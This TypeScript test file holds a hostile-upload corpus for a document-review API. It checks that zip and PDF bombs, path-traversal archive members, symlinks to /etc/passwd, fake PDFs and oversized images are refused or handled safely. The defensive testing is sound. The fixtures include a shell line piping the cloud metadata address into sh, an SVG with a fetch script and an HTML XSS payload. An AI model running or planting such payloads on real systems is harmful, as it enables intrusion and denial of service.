// The hostile-input corpus: files an attacker (or a broken scanner) uploads, each with what the service
// must answer, how soon, and how much memory the API and the worker may have used by then. An archive
// that expands, crowds, escapes or lies is refused with its code within seconds of the upload; a PDF or
// image that loops, nests, lies or promises billions of pixels is accepted and the review settles (a
// report, awaiting the documents it lacks, or failed when nothing in it could be read), never a crash,
// a hang, a runaway heap or a worker whose event loop stops answering (the worker logs each time its
// loop was held a second or more; the longest is checked case by case). While each accepted one is
// read, another organization's plain review sent beside it on the same API and worker completes.
import { readFile } from 'node:fs/promises';
import test from 'ava';
import { gzipSync } from 'node:zlib';
import { ReviewSchema } from '../../src/reviews/review.js';
import { call, errorCode, form } from '../support/http.js';
import { docx, elf, markEncrypted, pdf, png, renameMember, sevenZip, tar, zip } from '../support/fixtures.js';
import { hostileImages, hostilePdfs, junkTarGz, overlappingZip } from '../support/hostile-files.js';
import { waitForReview } from '../support/reviews.js';
import { TestServices } from '../support/services.js';
import { closeShared, newOrganization } from '../support/stack.js';
import { memoryMiB } from '../../scripts/stack/throwaway.js';
import { onThisMachine } from '../support/machine-load.js';

const MiB = 1024 * 1024;
const GiB = 1024 * MiB;

type Settled = 'completed' | 'awaiting_documents' | 'failed';
type Outcome =
  /** The create is answered with this error. */
  | { refused: number; code: string }
  /**
   * The create is accepted and the review settles: `completed` (the file was read, a report released),
   * `awaiting_documents` (read, but no Closing Disclosure, Loan Estimate or Note in it) or `failed`
   * (nothing in the package could be read).
   */
  | { settles: Settled };

interface HostileCase {
  name: string;
  file: () => Buffer | Promise<Buffer>;
  filename: string;
  outcome: Outcome;
  /** Refused: from the end of the upload to the answer. Accepted: from the upload until the review settles. */
  seconds: number;
}

/**
 * Peak resident memory either process may reach over the whole corpus (the worker's is its memory budget,
 * docs/operations.md).
 */
const PEAK_MIB = { api: 512, worker: 1536 };
/** The longest the worker's event loop may be held by one case, on a free machine. */
const LOOP_BLOCK_MS = 1_000;
/**
 * How soon another organization's plain review, sent right after a hostile file, completes on the same
 * API and worker, on a free machine (alone it takes a few seconds): the hostile file slows it, never
 * stops it.
 */
const NEIGHBOUR_COMPLETES_MS = 60_000;

const refused = (status: number, code: string, seconds = 5) => ({ outcome: { refused: status, code }, seconds });
const settles = (status: Settled, seconds = 90) => ({ outcome: { settles: status }, seconds });

const folderCrowd = (n: number) =>
  Array.from({ length: n }, (_, i) => ({ name: i % 2 ? `__MACOSX/d${i}/._x` : `d${i}/`, data: Buffer.alloc(0) }));

const cases: HostileCase[] = [
  // Archives that expand, overlap or crowd.
  {
    name: 'a zip bomb: 64 MiB of zeros in one member',
    filename: 'bomb.zip',
    file: async () => zip([{ name: 'bomb.pdf', data: Buffer.alloc(64 * MiB, 0) }]),
    ...refused(422, 'documents_too_large'),
  },
  {
    name: 'an overlapping zip: 250 entries sharing one 10 MiB kernel',
    filename: 'overlap.zip',
    file: () => overlappingZip(250, 10 * MiB),
    ...refused(422, 'documents_too_large'),
  },
  {
    name: 'a 7 MB zip of 70,000 folders and __MACOSX entries beside one PDF',
    filename: 'crowd.zip',
    file: async () => zip([...folderCrowd(70_000), { name: 'cd.pdf', data: await pdf() }]),
    ...refused(422, 'too_many_documents'),
  },
  {
    name: 'a tar.gz of 70,000 folders and __MACOSX entries beside one PDF',
    filename: 'crowd.tar.gz',
    file: async () =>
      tar(
        [
          ...folderCrowd(70_000).map((c) => ({ ...c, ...(c.name.endsWith('/') ? { type: '5' } : {}) })),
          { name: 'cd.pdf', data: await pdf() },
        ],
        { gzip: true },
      ),
    ...refused(422, 'too_many_documents'),
  },
  {
    name: 'a 12 MB tar.gz holding 8 GiB of __MACOSX junk before a PDF',
    filename: 'junk.tar.gz',
    file: async () => junkTarGz('__MACOSX/._junk', '0', 8 * GiB - MiB, await pdf()),
    ...refused(422, 'documents_too_large'),
  },
  {
    name: 'a tar.gz whose folder entry carries a 2 GiB body',
    filename: 'folder-body.tar.gz',
    file: async () => junkTarGz('folder/', '5', 2 * GiB, await pdf()),
    ...refused(422, 'documents_too_large'),
  },
  {
    name: 'a zip of 301 images, over the 300-document limit',
    filename: 'many.zip',
    file: () => zip(Array.from({ length: 301 }, (_, i) => ({ name: `p${i}.png`, data: png }))),
    ...refused(422, 'too_many_documents'),
  },
  // Archives whose members escape or are not files.
  {
    name: 'a zip member named ../evil.pdf',
    filename: 'slip.zip',
    file: async () =>
      renameMember(await zip([{ name: 'xx/evil.pdf', data: await pdf() }]), 'xx/evil.pdf', '../evil.pdf'),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a zip member named ..\\..\\evil.pdf',
    filename: 'slip-backslash.zip',
    file: async () =>
      renameMember(await zip([{ name: 'xxxxxxevil.pdf', data: await pdf() }]), 'xxxxxxevil.pdf', '..\\..\\evil.pdf'),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a tar member at an absolute path',
    filename: 'absolute.tar',
    file: () => tar([{ name: '/etc/cron.d/x.pdf', data: png }]),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a tar member climbing out through a folder',
    filename: 'climb.tar',
    file: () => tar([{ name: 'docs/../../x.pdf', data: png }]),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a zip symbolic link to /etc/passwd',
    filename: 'link.zip',
    file: () => zip([{ name: 'link.pdf', data: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a tar symbolic link',
    filename: 'symlink.tar',
    file: () => tar([{ name: 'x.pdf', type: '2', linkName: '/etc/passwd' }]),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a tar hard link',
    filename: 'hardlink.tar',
    file: () => tar([{ name: 'x.pdf', type: '1', linkName: '/etc/shadow' }]),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a tar character device',
    filename: 'device.tar',
    file: () => tar([{ name: 'x.pdf', type: '3' }]),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a tar FIFO',
    filename: 'fifo.tar',
    file: () => tar([{ name: 'x.pdf', type: '6' }]),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a GNU sparse tar member',
    filename: 'sparse.tar',
    file: async () =>
      tar([
        { name: 'holes.pdf', type: 'S', data: await pdf() },
        { name: 'cd.pdf', data: await pdf() },
      ]),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a tar whose header under-declares its data',
    filename: 'lying.tar',
    file: async () => tar([{ name: 'a.pdf', data: await pdf(), declaredSize: 10 }]),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a zip inside a zip',
    filename: 'nested.zip',
    file: async () => zip([{ name: 'inner.zip', data: await zip([{ name: 'a.pdf', data: await pdf() }]) }]),
    ...refused(400, 'document_unsupported'),
  },
  // Archives that are broken, locked or not archives.
  {
    name: 'a password-protected zip',
    filename: 'locked.zip',
    file: async () => markEncrypted(await zip([{ name: 'secret.pdf', data: await pdf() }])),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a zip cut short',
    filename: 'cut.zip',
    file: async () => {
      const z = await zip([{ name: 'a.pdf', data: await pdf() }]);
      return z.subarray(0, z.length - 30);
    },
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a zip signature followed by junk',
    filename: 'fake.zip',
    file: () => Buffer.from('PK\x03\x04 not really a zip at all, just words'),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a tar.gz cut short',
    filename: 'cut.tar.gz',
    file: async () => {
      const g = tar([{ name: 'a.pdf', data: await pdf() }], { gzip: true });
      return g.subarray(0, g.length - 40);
    },
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a gzipped PDF that is no tar',
    filename: 'cd.pdf.gz',
    file: async () => gzipSync(await pdf()),
    ...refused(400, 'document_unsupported'),
  },
  { name: 'an empty zip', filename: 'empty.zip', file: () => zip([]), ...refused(400, 'document_required') },
  {
    name: 'a zip of folders and Finder metadata only',
    filename: 'hollow.zip',
    file: () =>
      zip([
        { name: 'loan/', data: Buffer.alloc(0) },
        { name: '__MACOSX/loan/._cd.pdf', data: Buffer.from('junk') },
      ]),
    ...refused(400, 'document_required'),
  },
  // Files that are not documents, whatever they are called.
  { name: 'an empty file', filename: 'empty.pdf', file: () => Buffer.alloc(0), ...refused(400, 'document_required') },
  {
    name: 'an ELF executable named .pdf',
    filename: 'invoice.pdf',
    file: () => elf,
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a shell script named .pdf',
    filename: 'cd.pdf',
    file: () => Buffer.from('#!/bin/sh\ncurl http://169.254.169.254/ | sh\n'),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'an SVG with a script',
    filename: 'seal.svg',
    file: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/v1/reviews")</script></svg>'),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'an HTML page',
    filename: 'statement.pdf',
    file: () => Buffer.from('<!doctype html><html><body><img src=x onerror=alert(1)></body></html>'),
    ...refused(400, 'document_unsupported'),
  },
  { name: 'a Word document', filename: 'letter.docx', file: () => docx(), ...refused(400, 'document_unsupported') },
  { name: 'a 7-Zip archive', filename: 'loan.7z', file: () => sevenZip, ...refused(400, 'document_unsupported') },
  {
    name: 'a RAR archive',
    filename: 'loan.rar',
    file: () => Buffer.from(`Rar!\x1a\x07\x01\x00${'\0'.repeat(64)}`, 'binary'),
    ...refused(400, 'document_unsupported'),
  },
  {
    name: 'a single file over the 100 MiB per-file limit',
    filename: 'huge.pdf',
    file: async () => Buffer.concat([await pdf(), Buffer.alloc(101 * MiB, 0x20)]),
    ...refused(413, 'document_too_large'),
  },
  // PDFs built to hang, overflow or exhaust a reader.
  {
    name: 'a PDF whose xref chain loops on itself',
    filename: 'xref-loop.pdf',
    file: () => hostilePdfs.xrefLoop(),
    ...settles('completed'),
  },
  {
    name: 'a PDF whose page tree contains itself',
    filename: 'tree-cycle.pdf',
    file: () => hostilePdfs.pageTreeCycle(),
    ...settles('awaiting_documents'),
  },
  {
    name: 'a PDF nesting 100,000 arrays',
    filename: 'deep.pdf',
    file: () => hostilePdfs.deepNesting(),
    ...settles('awaiting_documents'),
  },
  {
    name: 'a PDF of 10,000 pages',
    filename: 'ten-thousand.pdf',
    file: () => hostilePdfs.tenThousandPages(),
    ...settles('failed'),
  },
  {
    name: 'a PDF page a million points square',
    filename: 'huge-page.pdf',
    file: () => hostilePdfs.hugePage(),
    ...settles('awaiting_documents'),
  },
  {
    name: 'a PDF image of 50,000 × 50,000 pixels',
    filename: 'huge-image.pdf',
    file: () => hostilePdfs.hugeImage(),
    ...settles('awaiting_documents'),
  },
  {
    name: 'a PDF content stream inflating to 512 MiB',
    filename: 'flate-bomb.pdf',
    file: () => hostilePdfs.flateBomb(),
    ...settles('awaiting_documents'),
  },
  {
    name: 'an object stream naming the working-document marker, then inflating to 256 MiB',
    filename: 'objstm-bomb.pdf',
    file: () => hostilePdfs.objectStreamBomb(256),
    ...settles('awaiting_documents'),
  },
  {
    name: 'a PDF whose xref claims a billion objects',
    filename: 'billion.pdf',
    file: () => hostilePdfs.billionObjects(),
    ...settles('awaiting_documents'),
  },
  {
    name: 'a PDF locked with a user password',
    filename: 'locked.pdf',
    file: () => hostilePdfs.passwordProtected(),
    ...settles('failed'),
  },
  {
    name: 'a PDF with JavaScript and a launch action',
    filename: 'scripted.pdf',
    file: () => hostilePdfs.scripted(),
    ...settles('completed'),
  },
  {
    name: 'a PDF whose stream length refers to itself',
    filename: 'self.pdf',
    file: () => hostilePdfs.selfReference(),
    ...settles('awaiting_documents'),
  },
  {
    name: 'a PDF header and nothing else',
    filename: 'header.pdf',
    file: () => hostilePdfs.headerOnly(),
    ...settles('failed'),
  },
  {
    name: 'a PDF body of words',
    filename: 'words.pdf',
    file: () => Buffer.from(`%PDF-1.7\n${'this is not a PDF body '.repeat(20)}\n%%EOF\n`),
    ...settles('failed'),
  },
  {
    name: 'a real PDF cut in half',
    filename: 'half.pdf',
    file: async () => {
      const p = await pdf('Closing Disclosure');
      return p.subarray(0, p.length >> 1);
    },
    ...settles('failed'),
  },
  // Images whose headers promise more than they hold.
  {
    name: 'a PNG promising 50,000 × 50,000 pixels',
    filename: 'bomb.png',
    file: () => hostileImages.pngBomb(),
    ...settles('failed'),
  },
  {
    name: 'a JPEG promising 65,500 × 65,500 pixels',
    filename: 'bomb.jpg',
    file: () => hostileImages.jpegBomb(),
    ...settles('failed'),
  },
  {
    name: 'a TIFF whose directory chain loops',
    filename: 'loop.tif',
    file: () => hostileImages.tiffLoop(),
    ...settles('awaiting_documents'),
  },
  {
    name: 'a TIFF claiming 1,000,000 × 1,000,000 pixels',
    filename: 'huge.tif',
    file: () => hostileImages.tiffHuge(),
    ...settles('failed'),
  },
  { name: 'a GIF of 65,535 × 65,535', filename: 'bomb.gif', file: () => hostileImages.gifBomb(), ...settles('failed') },
  {
    name: 'a BMP claiming 50,000 × 50,000 at 32 bits',
    filename: 'bomb.bmp',
    file: () => hostileImages.bmpBomb(),
    ...settles('failed'),
  },
  {
    name: 'an RLE BMP whose 8 MiB of runs declare a billion pixels for a row of 2,000',
    filename: 'runs.bmp',
    file: () => hostileImages.bmpRleRuns(),
    ...settles('awaiting_documents'),
  },
];

const SETTLED = new Set<string>(['completed', 'awaiting_documents', 'failed']);

const services = new TestServices();
let api: { url: string; pid: number };
let workerPid: number;
let workerLog: string;
let liveKey: string;
let neighbourKey: string;
test.before(async () => {
  // Processes of their own, so their peak memory is this corpus's alone.
  const env = { TEMPORAL_TASK_QUEUE: `hostile-${process.pid}`, RATE_LIMIT_PER_MINUTE: '1000' };
  const worker = await services.worker(env);
  const started = await services.api(env);
  api = { url: started.url, pid: started.child.process.pid! };
  workerPid = worker.process.pid!;
  workerLog = worker.spec.logFile;
  liveKey = (await newOrganization()).liveKey;
  neighbourKey = (await newOrganization()).liveKey;
});
test.after.always(async () => {
  await services.stopAll();
  await closeShared();
});

test('the corpus holds at least 40 cases', (t) => {
  t.true(cases.length >= 40, `${cases.length} cases`);
});

for (const c of cases) {
  test.serial(c.name, async (t) => {
    const data = await c.file();
    const loggedBefore = (await readFile(workerLog, 'utf8')).length;
    const started = Date.now();
    const res = await call(api.url, 'POST', '/reviews', { key: liveKey, form: form([{ name: c.filename, data }]) });
    const answeredMs = Date.now() - started;
    if ('refused' in c.outcome) {
      t.is(res.status, c.outcome.refused, res.text);
      t.is(errorCode(res), c.outcome.code, res.text);
      t.true(answeredMs < onThisMachine(c.seconds * 1000), `answered after ${answeredMs} ms`);
    } else {
      t.is(res.status, 201, res.text);
      const { review_id } = ReviewSchema.parse(res.body);
      // Meanwhile another organization's Closing Disclosure goes through the same API and worker.
      const neighbourSent = Date.now();
      const neighbour = await call(api.url, 'POST', '/reviews', {
        key: neighbourKey,
        form: form([{ name: 'cd.pdf', data: await pdf('Closing Disclosure') }]),
      });
      t.is(neighbour.status, 201, `the neighbour's create: ${neighbour.text}`);
      const neighbourDone = waitForReview(
        neighbourKey,
        ReviewSchema.parse(neighbour.body).review_id,
        (r) => SETTLED.has(r.status),
        onThisMachine(NEIGHBOUR_COMPLETES_MS),
        api.url,
      ).then((r) => ({
        status: r.status,
        ms: Date.now() - neighbourSent,
      }));
      const settled = await waitForReview(liveKey, review_id, (r) => SETTLED.has(r.status), c.seconds * 1000, api.url);
      t.log(`settled ${settled.status} after ${((Date.now() - started) / 1000).toFixed(1)} s`);
      t.is(settled.status, c.outcome.settles);
      const other = await neighbourDone;
      t.log(`another organization's review completed ${(other.ms / 1000).toFixed(1)} s after its create`);
      t.is(other.status, 'completed');
    }
    const peak = { api: await memoryMiB(api.pid, 'VmHWM'), worker: await memoryMiB(workerPid, 'VmHWM') };
    t.log(
      `${(data.length / MiB).toFixed(2)} MiB sent; answered in ${answeredMs} ms; peak RSS api ` +
        `${peak.api.toFixed(0)} MiB, worker ${peak.worker.toFixed(0)} MiB`,
    );
    t.true(peak.api <= PEAK_MIB.api, `API peak ${peak.api.toFixed(0)} MiB`);
    t.true(peak.worker <= PEAK_MIB.worker, `worker peak ${peak.worker.toFixed(0)} MiB`);
    // The worker logs each block of its loop of a second or more (src/runtime/event-loop-stalls.ts).
    const blocks = [
      ...(await readFile(workerLog, 'utf8')).slice(loggedBefore).matchAll(/event loop was blocked for ([\d.]+) s/g),
    ].map((m) => Number(m[1]) * 1000);
    const longest = Math.max(0, ...blocks);
    if (blocks.length > 0) t.log(`worker event loop held ${blocks.length} time(s), longest ${longest} ms`);
    t.true(longest <= onThisMachine(LOOP_BLOCK_MS), `the worker's event loop was held ${longest} ms`);
  });
}
